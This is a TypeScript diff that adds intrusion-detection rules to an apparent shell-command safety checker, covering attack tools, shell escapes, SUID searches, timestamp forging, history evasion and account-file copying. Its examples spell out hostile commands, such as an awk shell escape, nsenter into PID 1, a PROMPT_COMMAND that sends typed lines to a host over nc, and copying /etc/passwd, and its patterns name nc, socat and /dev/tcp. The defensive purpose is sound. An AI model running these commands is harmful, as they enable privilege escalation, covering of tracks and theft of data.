@@ -1,0 +1,234 @@
+// Rules about what intruders do with everyday tools: see, hide, keep a way in, take along. Tables from a tool to its words.
+
+import { INTERPRETERS, interpreterName, SHELLS } from '../../carriers/wrappers.ts'
+import { resolvePath } from '../../line/paths.ts'
+import { type Arg, baseName, type SimpleCommand } from '../../model.ts'
+import { valuesOf } from '../../writes/option-values.ts'
+import { inputCode } from '../../writes/positions.ts'
+import { EVERYBODYS, inPlace, matching, only, type Rule, tools, verb } from '../rule.ts'
+import { appended, overwritten } from '../targets.ts'
+import { ATTACK_TOOLS, ENTERS, fits, PASSWORDS, RECORDS, TRUSTS } from './intrusion-tables.ts'
+
+const ATTACKS: ReadonlySet<string> = new Set(ATTACK_TOOLS)
+const plainName = (path: string): string =>
+  baseName(path)
+    .toLowerCase()
+    .replace(/\.(?:sh|py|pl|rb|elf|ko)$/, '')
+const RUNS_FILES: readonly string[] = [
+  ...Object.keys(INTERPRETERS),
+  ...SHELLS,
+  'source',
+  '.',
+  'modprobe',
+  'insmod',
+]
+
+/** A shell, and nothing for it to run, in a call of another program. */
+const SHELL_CALL =
+  /(?:\b(?:system|exec\w*|spawn\w*|popen\w*|call|run|Popen|execute|passthru|shell_exec|terminal|shell)\b|!)[\s("'[,=:{]*(?:exec\s+)?["']?(?:\/(?:usr\/)?bin\/)?(?:ba|da|z|k|c|tc|fi)?sh["',\s-]*(?:[ipl]+\s*)?(?:["',\s]*(?:reset;?\s*)?(?:0?[<>]&\d\s*)*)&?\s*["')\];}]*\s*(?:$|[;,)\]}#])/m
+const CALLERS: readonly string[] = [
+  ...Object.keys(INTERPRETERS),
+  ...tools(
+    'awk gawk mawk nawk vi vim nvim view ed ex gdb man less more ftp tclsh expect irb psql sqlite3 mysql',
+  ),
+]
+
+/** Names by which files hide: blanks at the end, more dots than `..`, a kernel thread's brackets. */
+const DISGUISED =
+  /(?:^|\/)(?:\.{3,}|\.{1,2}\s+|[^/]*[^/\s\\]\s+|\[(?:k\w+|migration|rcu\w*|watchdog|scsi\w*|events)[^\]/]*\])(?:\/|$)/
+
+/** Files that list accounts, in the quotes of another language. */
+const ACCOUNT_LIST = /^\/etc\/(?:passwd|group)-?$/
+
+/** What the shell itself runs before each prompt, and that hands the typed line on. */
+const HANDS_ON = /\b(?:logger|tee|nc|ncat|socat|curl|wget|ssh|mail)\b|>>|\/dev\/(?:tcp|udp)\//
+
+const assigned = (c: SimpleCommand, name: RegExp): readonly (readonly [string, Arg])[] => [
+  ...c.assignments.filter((set) => name.test(set.name)).map((set) => [set.value.text, set.value] as const),
+  ...(/^(?:export|declare|typeset)$/.test(c.name) ? c.args : []).flatMap((arg) => {
+    const at = arg.text.indexOf('=')
+    return at > 0 && name.test(arg.text.slice(0, at)) ? [[arg.text.slice(at + 1), arg] as const] : []
+  }),
+]
+
+export const INTRUSION_RULES: readonly Rule[] = [
+  {
+    id: 'attack-tool',
+    level: 'moderate',
+    why: 'Runs a program made for breaking into machines, for hiding on them, or for using them to earn money.',
+    tools: [...ATTACK_TOOLS.flatMap((name) => [name, `${name}.sh`, `${name}.py`]), ...RUNS_FILES],
+    when: (c, o) =>
+      ATTACKS.has(plainName(c.name))
+        ? !o.flag('h', 'help', 'version')
+        : o.operands.slice(0, 1).filter((arg) => ATTACKS.has(plainName(arg.text))),
+    example: 'bash linpeas.sh',
+  },
+  {
+    id: 'runs-from-shared',
+    level: 'moderate',
+    why: 'Runs a file from a directory in which every user and program can put files.',
+    tools: ['*', ...RUNS_FILES],
+    when: (c, o) => {
+      if (c.path.includes('/') && EVERYBODYS.test(resolvePath(c.path, c.scope))) return true
+      const runs =
+        interpreterName(c.name) !== undefined || SHELLS.has(c.name) || /^(?:\.|source)$/.test(c.name)
+      return only(
+        runs && o.flag('c', 'e', 'm') === undefined,
+        o.operands.slice(0, 1).filter((arg) => EVERYBODYS.test(resolvePath(arg.text, c.scope))),
+      )
+    },
+    example: 'sh /tmp/install.sh',
+    yields: true,
+  },
+  {
+    id: 'password-in-words',
+    level: 'moderate',
+    why: 'Shows the password to every user of this machine, who can see the words of running programs, and to the history.',
+    tools: [...Object.keys(PASSWORDS), 'sudo'],
+    when: (c, o) =>
+      c.name === 'sudo'
+        ? only(o.flag('S', 'stdin'), /\S/.test(c.input.text ?? ''))
+        : c.name === 'chpasswd'
+          ? /:\S/.test(c.input.text ?? '')
+          : fits(PASSWORDS)(c),
+    example: 'sshpass -p hunter2 ssh me@host',
+  },
+  {
+    id: 'shell-escaped',
+    level: 'moderate',
+    why: 'Opens a shell from inside another program, where nothing that watches your shell sees it.',
+    tools: [...CALLERS, 'find', 'gfind', 'cpan'],
+    when: (c) => {
+      if (/find$/.test(c.name))
+        return c.args.filter(
+          (arg, i) =>
+            /^-(?:exec|execdir|ok|okdir)$/.test(c.args[i - 1]?.text ?? '') &&
+            SHELLS.has(baseName(arg.text)) &&
+            /^(?:;|-[ipl]+)$/.test(c.args[i + 1]?.text ?? ';'),
+        )
+      const input = c.input.text === undefined ? [] : [{ text: c.input.text, span: c.span, taint: 0 }]
+      return [...c.args, ...input, ...inputCode(c)].filter((arg) => SHELL_CALL.test(arg.text))
+    },
+    example: `awk 'BEGIN {system("/bin/sh")}'`,
+    yields: true,
+  },
+  {
+    id: 'records-person',
+    level: 'moderate',
+    why: 'Records the screen, the keys, the camera or the microphone, with whatever is secret in it.',
+    tools: Object.keys(RECORDS),
+    when: fits(RECORDS),
+    example: 'xwd -root -out /tmp/screen.xwd',
+  },
+  {
+    id: 'authority-trusted',
+    level: 'moderate',
+    why: 'Trusts another certificate authority, whose owner can then read and change encrypted connections.',
+    tools: Object.keys(TRUSTS),
+    when: fits(TRUSTS),
+    example: 'sudo update-ca-certificates',
+  },
+  {
+    id: 'host-entered',
+    level: 'moderate',
+    why: 'Opens a shell with the rights of root or of another part of the machine.',
+    tools: Object.keys(ENTERS),
+    when: fits(ENTERS),
+    example: 'nsenter -t 1 -m -u -i -n sh',
+  },
+  {
+    id: 'rights-searched',
+    level: 'moderate',
+    why: 'Searches for files through which anybody can get the rights of root.',
+    tools: tools('find gfind getcap'),
+    when: (c, o) =>
+      c.name === 'getcap'
+        ? only(o.flag('r'), inPlace(c, o.operands, 'root', 'system'))
+        : c.args.filter(
+            (arg, i) =>
+              c.args[i - 1]?.text === '-perm' &&
+              /^[-/]?(?:0?[246]000|[ugoa,+=]*[ug]\+?=?s\S*)$/.test(arg.text),
+          ),
+    example: 'find / -perm -4000',
+  },
+  {
+    id: 'time-forged',
+    level: 'moderate',
+    why: 'Gives a file or the machine another time, so that records no longer tell when something happened.',
+    tools: tools('touch date hwclock timedatectl'),
+    when: (c, o) =>
+      c.name === 'touch'
+        ? valuesOf(c.args, ['r', 'reference', 't'])
+        : c.name === 'date'
+          ? valuesOf(c.args, ['s', 'set'])
+          : c.name === 'hwclock'
+            ? only(o.flag('set', 'hctosys', 's'), true)
+            : only(verb(o) === 'set-time', true),
+    example: 'touch -r /bin/ls /tmp/x',
+  },
+  {
+    id: 'history-partial',
+    level: 'moderate',
+    why: 'Leaves commands out of the shell’s history from now on.',
+    tools: ['*'],
+    when: (c) =>
+      assigned(c, /^HIST(?:CONTROL|IGNORE)$/)
+        .filter(([text]) => /ignore(?:space|both)|\*/.test(text))
+        .map(([, arg]) => arg),
+    example: 'export HISTCONTROL=ignorespace',
+  },
+  {
+    id: 'prompt-hands-on',
+    level: 'moderate',
+    why: 'Hands every line that is typed from now on to another program or place.',
+    tools: ['*'],
+    when: (c) =>
+      assigned(c, /^(?:PROMPT_COMMAND|PS0)$/)
+        .filter(([text]) => HANDS_ON.test(text))
+        .map(([, arg]) => arg),
+    example: `export PROMPT_COMMAND='history 1 | nc log.example 514'`,
+  },
+  {
+    id: 'name-disguised',
+    level: 'moderate',
+    why: 'Uses a name that hides in lists of files or of processes, or looks like one of the kernel’s.',
+    tools: tools('exec cp mv ln install touch'),
+    when: (c, o) =>
+      c.name === 'exec'
+        ? matching(valuesOf(c.args, ['a']), /^\[|^\s|\s$/)
+        : o.operands
+            .slice(c.name === 'touch' ? 0 : -1)
+            .filter(
+              (arg) =>
+                DISGUISED.test(arg.text) ||
+                /^\/(?:tmp|var\/tmp|dev\/shm)\/\.[\w-]/.test(resolvePath(arg.text, c.scope)),
+            ),
+    example: "cp tool '/tmp/... '",
+  },
+  {
+    id: 'accounts-copied',
+    level: 'moderate',
+    why: 'Takes the list of accounts to another place.',
+    tools: [
+      ...tools(
+        'cp zip tar gzip bzip2 xz 7z openssl gpg ccencrypt ccrypt base64 xxd scp rsync curl wget nc ncat socat cat',
+      ),
+      ...Object.keys(INTERPRETERS),
+    ],
+    when: (c, o) => {
+      if (interpreterName(c.name) !== undefined) return matching(c.args, /(["'])\/etc\/(?:passwd|group)\1/)
+      const read = [
+        ...c.args.filter((arg) => ACCOUNT_LIST.test(arg.text.replace(/^.*[@=]/, ''))),
+        ...c.redirections
+          .filter((it) => it.operator === '<' && ACCOUNT_LIST.test(it.target.text))
+          .map((it) => it.target),
+      ]
+      if (read.length === 0) return undefined
+      const away = [...overwritten(c, o), ...appended(c, o)].some(
+        (arg) => !/^\/(?:etc|dev)\//.test(resolvePath(arg.text, c.scope)),
+      )
+      return only(c.name === 'cat' || c.name === 'cp' ? away : true, read)
+    },
+    example: 'cp /etc/passwd /tmp/passwd',
+  },
+]
